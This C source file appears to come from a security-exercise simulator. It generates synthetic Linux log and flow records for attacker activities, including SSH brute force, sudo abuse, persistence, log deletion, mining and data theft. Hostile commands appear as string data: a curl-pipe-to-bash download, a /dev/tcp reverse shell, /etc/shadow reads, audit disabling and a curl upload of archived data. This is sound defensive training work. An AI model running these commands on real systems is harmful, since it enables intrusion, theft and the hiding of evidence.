/* Activities on Linux hosts: what sshd, sudo and the tools for accounts write to auth.log, and what auditd writes when
 * commands are run. */
#include "exercise/telemetry_impl.h"

static unsigned sshd_pid(struct act *a) {
        return 1800 + (unsigned)prng_below(&a->rng, 28000);
}

static unsigned port(struct act *a) {
        return (unsigned)prng_range(&a->rng, 32768, 65000);
}

static const char *name_of(struct act *a) {
        return a->who >= 0 ? account_name(a->m, a->who) : "root";
}

static unsigned uid_of(const struct act *a) {
        return a->who >= 0 ? 1000u + (unsigned)a->who : 0;
}

static void run(struct act *a, const char *line) {
        struct command c = {.line = line,
                            .cwd = a->who >= 0 ? tel_say(a->m, "/home/%s", name_of(a)) : "/root",
                            .uid = uid_of(a),
                            .auid = a->who};

        act_pause(a, 300);
        audit_exec(a, &c);
}

static void ssh_failed(struct act *a, const char *name, bool known) {
        unsigned pid = sshd_pid(a), p = port(a);
        const char *from = act_address(a);

        if (!known) {
                unix_line(a, SRC_SSHD, "sshd", pid,
                          tel_say(a->m, "Invalid user %s from %s port %u", name, from, p));
                a->at += 40 * MS;
        }
        unix_line(a, SRC_SSHD, "sshd", pid,
                  tel_say(a->m, "Failed password for %s%s from %s port %u ssh2",
                          known ? "" : "invalid user ", name, from, p));
        a->at += 30 * MS;
        unix_line(a, SRC_SSHD, "sshd", pid,
                  tel_say(a->m, "Connection closed by %s user %s %s port %u [preauth]",
                          known ? "authenticating" : "invalid", name, from, p));
}

static void ssh_accepted(struct act *a, const char *method) {
        unsigned pid = sshd_pid(a), p = port(a);
        bool key = strcmp(method, "publickey") == 0;
        struct eve e = {.kind = EVE_FLOW,
                        .src = act_address(a),
                        .dst = a->m->hosts[a->host].address,
                        .sport = p,
                        .dport = 22,
                        .proto = "TCP",
                        .app = "ssh",
                        .to_server = 8400,
                        .to_client = 12100,
                        .age_s = 30};

        unix_line(a, SRC_SSHD, "sshd", pid,
                  tel_say(a->m, "Accepted %s for %s from %s port %u ssh2%s", method, name_of(a),
                          act_address(a), p, key ? ": ED25519 SHA256:RGllblRhcEtob25nVGhhdA" : ""));
        a->at += 20 * MS;
        unix_line(a, SRC_SSHD, "sshd", pid,
                  tel_say(a->m,
                          "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
                          name_of(a), uid_of(a)));
        eve_line(a, &e);
}

static void ssh_brute_force(struct act *a) {
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n; i++) {
                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                ssh_failed(a, name_of(a), true);
        }
        if (act_number(a, "success")) {
                act_pause(a, 3000);
                ssh_accepted(a, "password");
        }
}

static void ssh_spray(struct act *a) {
        static const char *const names[] = {"admin",   "test", "oracle", "postgres",
                                            "ubuntu",  "git",  "user",   "backup",
                                            "quantri", "ftp",  "www",    "support"};
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n; i++) {
                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                ssh_failed(a, i < ARRAY_LEN(names) ? names[i] : made_up_name(a->m, &a->rng), false);
        }
}

static void ssh_logon(struct act *a) {
        ssh_accepted(a, act_text(a, "method"));
}

static void sudo_line(struct act *a, const char *what) {
        unix_line(a, SRC_SSHD, "sudo", sshd_pid(a),
                  tel_say(a->m, "%s : %s", tel_say(a->m, "%8s", name_of(a)), what));
}

static void sudo_abuse(struct act *a) {
        const char *home = tel_say(a->m, "/home/%s", name_of(a));

        sudo_line(a, tel_say(a->m,
                             "user NOT in sudoers ; TTY=pts/0 ; PWD=%s ; USER=root ; "
                             "COMMAND=/usr/bin/cat /etc/shadow",
                             home));
        act_pause(a, 8000);
        sudo_line(a, tel_say(a->m, "TTY=pts/0 ; PWD=%s ; USER=root ; COMMAND=/bin/bash", home));
        a->at += 30 * MS;
        unix_line(
                a, SRC_SSHD, "sudo", sshd_pid(a),
                tel_say(a->m,
                        "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%u)",
                        name_of(a), uid_of(a)));
        struct command c = {.line = "/bin/bash", .cwd = home, .uid = 0, .auid = a->who};
        audit_exec(a, &c);
}

static void linux_discovery(struct act *a) {
        static const char *const list[] = {
                "id",           "uname -a",  "whoami", "cat /etc/passwd", "cat /etc/os-release",
                "ss -tlnp",     "ps aux",    "w",      "last -20",        "df -h",
                "ip addr show", "crontab -l"};
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n && i < ARRAY_LEN(list); i++) {
                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                run(a, list[i]);
        }
}

static void out_flow(struct act *a, unsigned dport, const char *app, uint64_t up, uint64_t down,
                     uint64_t age) {
        struct eve e = {.kind = EVE_FLOW,
                        .src = a->m->hosts[a->host].address,
                        .dst = act_address(a),
                        .dport = dport,
                        .proto = "TCP",
                        .app = app,
                        .to_server = up,
                        .to_client = down,
                        .age_s = age};

        eve_line(a, &e);
}

static void linux_download_run(struct act *a) {
        run(a, tel_say(a->m, "bash -c \"curl -fsSL http://%s/cai-dat.sh | bash\"", act_domain(a)));
        act_pause(a, 800);
        run(a, tel_say(a->m, "curl -fsSL http://%s/cai-dat.sh", act_domain(a)));
        out_flow(a, 80, "http", 740, 5200, 1);
}

static void reverse_shell(struct act *a) {
        run(a, tel_say(a->m, "bash -c \"bash -i >& /dev/tcp/%s/4444 0>&1\"", act_address(a)));
        act_pause(a, 2000);
        out_flow(a, 4444, "failed", 5300, 9100, 60);
}

static void cron_persist(struct act *a) {
        run(a, "crontab /tmp/.c");
}

static void ssh_key_add(struct act *a) {
        run(a,
            tel_say(a->m,
                    "sh -c \"echo ssh-ed25519 DIENTAP-KHONG-PHAI-KHOA >> %s/.ssh/authorized_keys\"",
                    a->who >= 0 ? tel_say(a->m, "/home/%s", name_of(a)) : "/root"));
}

static void linux_new_account(struct act *a) {
        const char *name = act_text(a, "name");
        unsigned pid = sshd_pid(a);

        run(a, tel_say(a->m, "useradd -m -s /bin/bash %s", name));
        unix_line(a, SRC_SSHD, "useradd", pid, tel_say(a->m, "new group: name=%s, GID=1099", name));
        a->at += 2 * MS;
        unix_line(a, SRC_SSHD, "useradd", pid,
                  tel_say(a->m,
                          "new user: name=%s, UID=1099, GID=1099, home=/home/%s, shell=/bin/bash, "
                          "from=/dev/pts/0",
                          name, name));
        act_pause(a, 4000);
        run(a, tel_say(a->m, "usermod -aG sudo %s", name));
        unix_line(a, SRC_SSHD, "usermod", pid + 7, tel_say(a->m, "add '%s' to group 'sudo'", name));
        a->at += 1 * MS;
        unix_line(a, SRC_SSHD, "usermod", pid + 7,
                  tel_say(a->m, "add '%s' to shadow group 'sudo'", name));
}

static void shadow_read(struct act *a) {
        struct command c = {.line = "cat /etc/shadow", .cwd = "/root", .uid = 0, .auid = a->who};

        audit_exec(a, &c);
}

static void security_tool_stop(struct act *a) {
        run(a, tel_say(a->m, "systemctl stop %s", act_text(a, "service")));
        act_pause(a, 700);
        run(a, "auditctl -e 0");
}

static void linux_log_delete(struct act *a) {
        run(a, "rm -f /var/log/auth.log /var/log/auth.log.1");
        act_pause(a, 1500);
        run(a, tel_say(a->m, "rm -f %s/.bash_history",
                       a->who >= 0 ? tel_say(a->m, "/home/%s", name_of(a)) : "/root"));
}

static void crypto_miner(struct act *a) {
        run(a,
            tel_say(a->m, "/tmp/.x/kdevtmpfsi -o stratum+tcp://%s:3333 -u dientap --donate-level 1",
                    act_domain(a)));
        act_pause(a, 3000);
        out_flow(a, 3333, "failed", 12400, 30900, 120);
}

static void database_dump(struct act *a) {
        run(a,
            tel_say(a->m, "sh -c \"mysqldump --single-transaction --databases %s > /tmp/.%s.sql\"",
                    act_text(a, "database"), act_text(a, "database")));
        act_pause(a, 200);
        run(a, tel_say(a->m, "mysqldump --single-transaction --databases %s",
                       act_text(a, "database")));
}

static void curl_upload(struct act *a) {
        uint64_t bytes = (uint64_t)act_number(a, "bytes");

        run(a, tel_say(a->m, "tar czf %s /srv/dulieu", act_text(a, "file")));
        act_pause(a, 15000);
        run(a, tel_say(a->m, "curl -s -T %s https://%s/nhan", act_text(a, "file"), act_domain(a)));
        a->at += 150 * SEC;
        out_flow(a, 443, "tls", bytes, bytes / 80, 150);
}

const struct activity_fn activities_linux[] = {
        {"ssh_brute_force", ssh_brute_force},
        {"ssh_spray", ssh_spray},
        {"ssh_logon", ssh_logon},
        {"sudo_abuse", sudo_abuse},
        {"linux_discovery", linux_discovery},
        {"linux_download_run", linux_download_run},
        {"reverse_shell", reverse_shell},
        {"cron_persist", cron_persist},
        {"ssh_key_add", ssh_key_add},
        {"linux_new_account", linux_new_account},
        {"shadow_read", shadow_read},
        {"security_tool_stop", security_tool_stop},
        {"linux_log_delete", linux_log_delete},
        {"crypto_miner", crypto_miner},
        {"database_dump", database_dump},
        {"curl_upload", curl_upload},
        {NULL, NULL},
};
